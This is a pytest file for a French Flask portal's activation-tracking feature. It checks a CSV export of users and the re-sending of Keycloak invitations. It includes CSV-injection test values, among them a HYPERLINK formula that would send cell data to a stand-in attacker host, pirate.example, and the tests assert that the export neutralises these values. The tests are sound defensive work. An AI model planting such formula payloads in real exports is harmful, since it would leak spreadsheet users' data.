"""Suivi des activations, what a coordinator does from it: the CSV export (its columns, the
« not activated » filter, formulas neutralised) and the re-sending of invitations to everyone
not activated, against the Admin API as Keycloak answers it."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient

from tests.helpers.admin_api import AdminApi
from tests.helpers.admin_api_json import CGU_VERSION, GROUPEMENT, SIREN_A, SIREN_B, group_json
from tests.helpers.pages import get_page
from tests.helpers.personas import SUPPORT_USER
from tests.helpers.settings import ADMIN_USERS_URL

from ._support import (
    ACTIVE,
    BASE,
    COORDINATOR,
    DAY,
    EXPIRED,
    INVITED,
    NEVER,
    NOT_ACTIVATED,
    NOW,
    Post,
    SignIn,
    dataset,
)

# --- the CSV export ----------------------------------------------------------------------------


def test_csv_export(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    response = client.get(f"{BASE}/export.csv")

    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="suivi-activations-{GROUPEMENT}.csv"'
    )
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:8] == [
        "Lot",
        "SIREN",
        "Raison sociale",
        "Nom",
        "Prénom",
        "E-mail",
        "Interlocuteur principal",
        "État",
    ]
    assert [(row[0], row[1], row[5], row[7]) for row in rows[1:]] == [
        ("1", SIREN_A, ACTIVE["email"], "Activé"),
        ("1", SIREN_A, INVITED["email"], "Invité"),
        ("1", SIREN_B, EXPIRED["email"], "Invitation expirée"),
        ("1", SIREN_B, NEVER["email"], "Non invité"),
        ("2", SIREN_A, ACTIVE["email"], "Activé"),
    ]
    assert dict(zip(rows[0], rows[1], strict=True)) == {
        "Lot": "1",
        "SIREN": SIREN_A,
        "Raison sociale": "Commune de Démoville",
        "Nom": "Active",
        "Prénom": "Alice",
        "E-mail": ACTIVE["email"],
        "Interlocuteur principal": "oui",
        "État": "Activé",
        "Invitation envoyée le": rows[1][8],
        "Invitation valable jusqu'au": rows[1][9],
        "Activé le": "28/11/2026 à 16:50 (heure de Paris)",
        "CGU acceptées le": "28/11/2026 à 16:50 (heure de Paris)",
        "Version des CGU acceptée": CGU_VERSION,
        "Dernière connexion": "29/11/2026 à 16:50 (heure de Paris)",
    }
    assert rows[1][8] and rows[1][9]


def test_csv_export_of_not_activated_only(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    response = client.get(f"{BASE}/export.csv?non_actives=1")
    rows = list(
        csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    assert [row[5] for row in rows[1:]] == [INVITED["email"], EXPIRED["email"], NEVER["email"]]


HOSTILE_NAME = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'


def test_csv_export_neutralises_formulas(
    client: FlaskClient, coordinator: AdminApi, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OWASP CSV injection: a cell a spreadsheet would read as a formula (=, +, -, @, tab,
    carriage return first) is prefixed with a single quote, in every column alike."""
    monkeypatch.setitem(group_json.__globals__["ADHERENT_NAMES"], SIREN_A, HOSTILE_NAME)
    hostile = (
        {**INVITED, "email": "+cmd@demoville.fr"},
        {**EXPIRED, "email": "-2+3@syndicat-demoville.fr"},
        {**NEVER, "email": "@SUM(1+1)@syndicat-demoville.fr"},
    )
    dataset(coordinator, hostile)
    body = client.get(f"{BASE}/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][2] == "'" + HOSTILE_NAME
    assert {row[5] for row in rows[1:]} == {
        ACTIVE["email"],
        "'+cmd@demoville.fr",
        "'-2+3@syndicat-demoville.fr",
        "'@SUM(1+1)@syndicat-demoville.fr",
    }
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33612345678", "'+33612345678"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Commune de Démoville", "Commune de Démoville"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_cell(value: str, written: str) -> None:
    from portal.web.suivi.views import csv_cell

    assert csv_cell(value) == written


# --- re-sending invitations ---------------------------------------------------------------------


def test_confirmation_says_how_many_and_whom(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    page = get_page(client, f"{BASE}/relancer")
    assert page.find("h1").text() == "Renvoyer l’invitation à 3 personnes non activées ?"
    listed = [li.attrs["data-personne"] for li in page.by_id("a-relancer").find_all("li")]
    assert listed == [INVITED["id"], EXPIRED["id"], NEVER["id"]]  # by e-mail
    form = page.find("form", action=f"{BASE}/relancer")
    assert form.attrs["method"] == "post"
    assert form.find_all("input", name="csrf_token")
    assert coordinator.writes() == []


def test_resend_invites_everyone_not_activated_and_goes_on_after_a_failure(
    client: FlaskClient, coordinator: AdminApi, post: Post
) -> None:
    dataset(coordinator)
    for person in NOT_ACTIVATED:
        coordinator.person(person)
        coordinator.accept_update(person["id"])
        coordinator.accept_invitation(person["id"], 500 if person is EXPIRED else 204)

    response = post(f"{BASE}/relancer")

    assert response.status_code == 302
    assert response.location == f"{BASE}/"
    sent = [
        url.removeprefix(f"PUT {ADMIN_USERS_URL}/").partition("/")[0]
        for url in coordinator.writes()
        if "/execute-actions-email?" in url
    ]
    assert sent == [INVITED["id"], EXPIRED["id"], NEVER["id"]]
    assert not any(ACTIVE["id"] in url for url in coordinator.writes())
    with client.session_transaction() as sess:
        messages = [message for _, message in sess["_flashes"]]
    assert messages == [
        "2 invitations renvoyées.",
        f"Invitations non envoyées (1) : {EXPIRED['email']}.",
    ]
    # Recorded: who re-sent, and the new invitation (the failed one was put back as it was).
    for person in (INVITED, NEVER):
        attributes = coordinator.people[person["id"]]["attributes"]
        assert COORDINATOR["email"] in attributes["derniereModification"][0]
        assert int(attributes["invitationEnvoyeeLe"][0]) >= NOW
    assert coordinator.people[EXPIRED["id"]]["attributes"]["invitationEnvoyeeLe"] == [
        str(NOW - 10 * DAY)
    ]


def test_resend_needs_the_csrf_token(client: FlaskClient, sign_in_as: SignIn) -> None:
    sign_in_as(COORDINATOR)  # refused before any Keycloak call
    response = client.post(f"{BASE}/relancer")
    assert response.status_code == 400


def test_resend_is_post_only(client: FlaskClient, sign_in_as: SignIn) -> None:
    sign_in_as(COORDINATOR)
    response = client.put(f"{BASE}/relancer")
    assert response.status_code == 405


def test_support_resends_as_itself(client: FlaskClient, support: AdminApi, post: Post) -> None:
    dataset(support)
    for person in NOT_ACTIVATED:
        support.person(person)
        support.accept_update(person["id"])
        support.accept_invitation(person["id"])
    post(f"{BASE}/relancer")
    attributes = support.people[NEVER["id"]]["attributes"]
    assert SUPPORT_USER["email"] in attributes["derniereModification"][0]
